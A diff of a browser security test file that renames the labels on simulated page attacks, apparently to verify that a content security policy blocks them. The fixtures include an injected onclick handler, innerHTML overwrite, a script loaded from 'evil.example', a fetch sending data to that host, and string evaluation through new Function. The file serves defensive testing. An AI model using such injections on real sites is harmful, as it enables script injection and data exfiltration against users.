@@ -5,7 +5,7 @@ const { newPage } = browserPages();
 
 const attacks: [string, string | (() => void)][] = [
   [
-    "a script that was put into the page",
+    "an injected script",
     () => {
       const frame = document.createElement("div");
       frame.setAttribute("onclick", "document.title = 'taken'");
@@ -14,13 +14,13 @@ const attacks: [string, string | (() => void)][] = [
     },
   ],
   [
-    "HTML that no part of the site made",
+    "injected HTML",
     () => {
       document.body.innerHTML = "<b>taken</b>";
     },
   ],
   [
-    "a script from elsewhere",
+    "a script from another host",
     () => {
       const script = document.createElement("script");
       script.src = "https://evil.example/a.js";
@@ -29,12 +29,12 @@ const attacks: [string, string | (() => void)][] = [
   ],
   ["words sent elsewhere", () => void fetch("https://evil.example/?words")],
   [
-    "text that is run",
-    // What the test itself runs may do so; what it leaves to do may not.
+    "text that is evaluated",
+    // The test's own code may evaluate text; a timer it leaves behind may not.
     "void setTimeout(() => new Function(`document.title = 'taken'`)())",
   ],
   [
-    "a part of the site that is not known",
+    "an unknown Trusted Types policy",
     () => {
       window.trustedTypes?.createPolicy("default", {});
     },
